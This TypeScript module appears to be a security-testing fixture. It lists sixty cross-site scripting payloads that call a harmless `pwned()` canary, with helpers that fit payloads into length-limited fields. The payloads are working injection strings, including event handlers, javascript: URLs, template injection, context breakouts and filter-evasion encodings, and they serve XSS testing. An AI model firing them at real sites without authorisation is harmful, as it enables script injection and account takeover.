/** Sixty texts that each call `pwned()` when a page interprets them as
 * markup, script, style or an address. */
export const PAYLOADS: readonly string[] = [
  '<script>pwned()</script>',
  '<svg onload=pwned()>',
  '<img src=x onerror=pwned()>',
  '"><svg onload=pwned()>',
  "'><img src=x onerror=pwned()>",
  '<body onload=pwned()>',
  '<iframe src=javascript:parent.pwned()></iframe>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<details open ontoggle=pwned()></details>',
  '<input autofocus onfocus=pwned()>',
  '<select autofocus onfocus=pwned()></select>',
  '<textarea autofocus onfocus=pwned()></textarea>',
  '<video src=x onerror=pwned()></video>',
  '<video><source onerror=pwned()></video>',
  '<audio src=x onerror=pwned()></audio>',
  '<object data=javascript:pwned()></object>',
  '<embed src=javascript:pwned()>',
  '<a href=javascript:pwned() autofocus onfocus=pwned()>x</a>',
  'javascript:pwned()',
  'JaVaScRiPt:pwned()',
  'java\tscript:pwned()',
  'data:text/html,<script>pwned()</script>',
  '<math><mtext><svg onload=pwned()></svg></mtext></math>',
  '<svg><script>pwned()</script></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s /></svg>',
  '<svg><a xlink:href=javascript:pwned()><text>x</text></a>',
  '<marquee onstart=pwned()>x</marquee>',
  '<style onload=pwned()></style>',
  '<link rel=stylesheet href=x onerror=pwned()>',
  '<base href=javascript:pwned()//>',
  '<meta http-equiv=refresh content=0;url=javascript:pwned()>',
  '<form><button formaction=javascript:pwned()>x</button></form>',
  '<p style=animation:x onanimationstart=pwned()>x</p>',
  '<div style=width:expression(pwned())>x</div>',
  '${pwned()}',
  '{{pwned()}}',
  "{{constructor.constructor('pwned()')()}}",
  '#{pwned()}',
  '<%= pwned() %>',
  "';pwned();//",
  '";pwned();//',
  '`;pwned();//',
  '\\";pwned();//',
  '</script><script>pwned()</script>',
  '--><script>pwned()</script>',
  ']]><script>pwned()</script>',
  '</textarea><svg onload=pwned()>',
  '</title><svg onload=pwned()>',
  '</style><svg onload=pwned()>',
  '<<script>pwned()//<</script>',
  '<scr<script>ipt>pwned()</scr</script>ipt>',
  '<ScRiPt>pwned()</sCrIpT>',
  '<script/x>pwned()</script>',
  '<svg/onload=pwned()>',
  '<img/src=x/onerror=pwned()>',
  '<img src=x onerror=&#112;wned()>',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '%3Cscript%3Epwned()%3C/script%3E',
  '\\u003cscript\\u003epwned()\\u003c/script\\u003e',
  '<template shadowrootmode=open><svg onload=pwned()></template>',
];

/** The shortest payload that still runs, for short fields. */
const SHORTEST = '<svg onload=pwned()>';

/** The nth payload, or the shortest when the field is too short for it. */
export function payloadFor(nth: number, max: number): string {
  const payload = PAYLOADS[nth % PAYLOADS.length] ?? SHORTEST;
  return payload.length <= max ? payload : SHORTEST;
}

/** Returns as many payloads from the nth on as fit into a field, at most `count`, one a line. */
export function packed(nth: number, count: number, max: number): string {
  let text = '';
  for (let at = 0; at < count; at += 1) {
    const next = `${text}${text === '' ? '' : '\n'}${payloadFor(nth + at, max)}`;
    if (next.length > max) break;
    text = next;
  }
  return text;
}
